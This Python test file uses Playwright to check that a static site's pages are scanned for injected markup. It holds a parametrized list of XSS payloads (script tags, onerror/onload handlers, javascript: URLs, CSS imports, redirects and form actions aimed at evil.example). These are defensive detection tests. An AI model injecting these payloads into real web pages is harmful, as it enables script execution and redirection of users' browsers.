"""Whatever gets into a page and runs, asks elsewhere or is no part of it is found, by each way of finding it."""

from __future__ import annotations

from collections import Counter
from typing import TYPE_CHECKING

import pytest

from tests.browser.opening import served
from tests.checks import small
from tests.hostile.check import FOUND, PARTS, unproved
from tests.hostile.corpus import Seed
from tests.hostile.home import Built
from tests.hostile.opened import opened, tab
from tests.hostile.visible import Reach

if TYPE_CHECKING:
    from pathlib import Path

    from playwright.sync_api import Browser

pytestmark = pytest.mark.browser

RISE = "@keyframes rise { to { opacity: 1 } } p { animation: rise 1ms }"


@pytest.mark.parametrize(
    ("markup", "fault"),
    [
        ("<script>0</script>", "runs a script of 1 characters from"),
        ("<script>alert(1)</script>", "shows a dialog '1'"),
        ("<script>eval('0')</script>", "runs a script of 1 characters from nowhere"),
        ("<script>setTimeout('0')</script>", "runs a script of 1 characters from nowhere"),
        ("<script>hacked(1)</script>", "hacked is not defined"),
        ("<script>open('//evil.example/')</script>", "runs a script of"),
        ("<script>location = '//evil.example/'</script>", "asks for http://evil.example/"),
        ("<script src=//evil.example/a.js></script>", "asks for http://evil.example/a.js"),
        ("<script src=//evil.example/a.js></script>", "loads from elsewhere by script src"),
        ("<img src=x onerror=0>", "runs a script of"),
        ("<img src=x onerror=0>", "has an attribute of img onerror=0"),
        ("<img src=//evil.example/a.png>", "asks for http://evil.example/a.png"),
        ("<img src=//evil.example/a.png>", "has an element img"),
        ("<svg onload=0>", "runs a script of"),
        ("<p tabindex=0 autofocus onfocus=0>p", "runs a script of"),
        ("<p onanimationstart=0>p", "runs a script of"),
        ("<details open ontoggle=0><summary>s</summary></details>", "runs a script of"),
        ("<p onmouseover=0>p", "has an attribute of p onmouseover=0"),
        ("<iframe src=javascript:0></iframe>", "has frames"),
        ("<iframe srcdoc='<script>0</script>'></iframe>", "runs a script of"),
        ("<a href=javascript:0>a</a>", "leads to no page by a href=javascript:0"),
        ("<a href='java\nscript:0'>a</a>", "leads to no page by a href"),
        ("<a href=data:text/html,x>a</a>", "leads to no page by a href=data:"),
        ("<a href=//evil.example/>a</a>", "leads away by a href"),
        ("<form action=//evil.example/></form>", "leads away by form action"),
        ("<form action=//else.example/></form>", "loads from elsewhere by form action"),
        ("<base href=//evil.example/>", "has an element base"),
        ("<meta http-equiv=refresh content='0;url=//evil.example/r'>", "asks for http://evil.example/r"),
        ("<style>@import url(//evil.example/a.css);</style>", "asks for http://evil.example/a.css"),
        ("<p style='background: url(//evil.example/b.png)'>p", "asks for http://evil.example/b.png"),
        ("<link rel=stylesheet href=//evil.example/c.css>", "asks for http://evil.example/c.css"),
        (
            "<template shadowrootmode=open><img src=//evil.example/d.png></template>",
            "asks for http://evil.example/d.png",
        ),
        ("<blink>b</blink>", "has an element blink"),
    ],
)
def test_an_attack_is_found_where_escaping_fails(browser: Browser, tmp_path: Path, markup: str, fault: str) -> None:
    assert any(fault in found for found in faults(browser, tmp_path, markup, policy=False))


@pytest.mark.parametrize(
    ("markup", "fault"),
    [
        ("<script>0</script>", "violates the following Content Security Policy directive"),
        ("<img src=x onerror=0>", "violates the following Content Security Policy directive"),
        ("<img src=//evil.example/a.png>", "violates the following Content Security Policy directive"),
    ],
)
def test_an_attack_is_found_that_only_the_policy_stops(
    browser: Browser, tmp_path: Path, markup: str, fault: str
) -> None:
    assert any(fault in found for found in faults(browser, tmp_path, markup, policy=True))


@pytest.mark.parametrize("policy", [True, False])
def test_what_is_harmless_is_not_found(browser: Browser, tmp_path: Path, policy: bool) -> None:
    markup = "<p>&lt;script&gt;hacked(1)&lt;/script&gt; <a href=article.html>a</a></p><script src=script.js></script>"
    assert faults(browser, tmp_path, markup, policy=policy) == []


LATE = """setTimeout(() => {
    const item = document.createElement("li")
    item.innerHTML = "%s"
    document.getElementById("results").append(item)
}, 600)"""
"""A script that shows what it found after a while, as the search does."""


@pytest.mark.parametrize(
    ("shown", "fault"),
    [
        ("a &lt;script&gt;", ""),
        ("<img src=x onerror=hacked(1)>", "has an attribute of img onerror=hacked(1)"),
        ("<a href=//evil.example/>a</a>", "leads away by a href"),
    ],
)
@pytest.mark.parametrize("policy", [True, False])
def test_what_a_page_shows_late_is_waited_for(
    browser: Browser, tmp_path: Path, shown: str, fault: str, policy: bool
) -> None:
    found = searched(browser, tmp_path, LATE % shown, most=30_000, policy=policy)
    assert any(fault in one for one in found) if fault else found == []


def test_a_page_that_never_shows_what_is_awaited_is_found(browser: Browser, tmp_path: Path) -> None:
    assert searched(browser, tmp_path, "", most=200, policy=False) == ["index.html: shows no #results li"]


def test_a_search_page_that_is_not_there_is_found(tmp_path: Path) -> None:
    seen = Reach(frozenset({""}), 1, 1, frozenset(), Counter(PARTS))
    site = Built(tmp_path, (Seed("a.txt", "html", "a"),), {"articles": 1, "problems": []}, ())
    assert list(unproved(site, seen)) == ["there is no search/index.html, so no search could be tried"]
    (tmp_path / "search").mkdir()
    (tmp_path / "search/index.html").touch()
    assert list(unproved(site, seen)) == []


def test_a_page_that_is_not_there_is_found(browser: Browser, tmp_path: Path) -> None:
    small.site(tmp_path, "")
    with served(tmp_path) as address:
        assert list(opened(browser, address, tmp_path, ["gone.html"], policy=False))


def faults(browser: Browser, folder: Path, markup: str, *, policy: bool) -> list[str]:
    """What is said of a page with that markup."""
    small.site(folder, markup, style=RISE, script="0")
    with served(folder) as address:
        return list(opened(browser, address, folder, ["index.html"], policy=policy))


def searched(browser: Browser, folder: Path, script: str, *, most: int, policy: bool) -> list[str]:
    """What is said of a page with an empty list of results, once that script has filled it."""
    small.site(folder, "<ol id=results></ol><script src=script.js></script>", script=script)
    with served(folder) as address, tab(browser, address, folder, policy=policy) as one:
        return list(one.faults("index.html", awaited=FOUND, most=most))
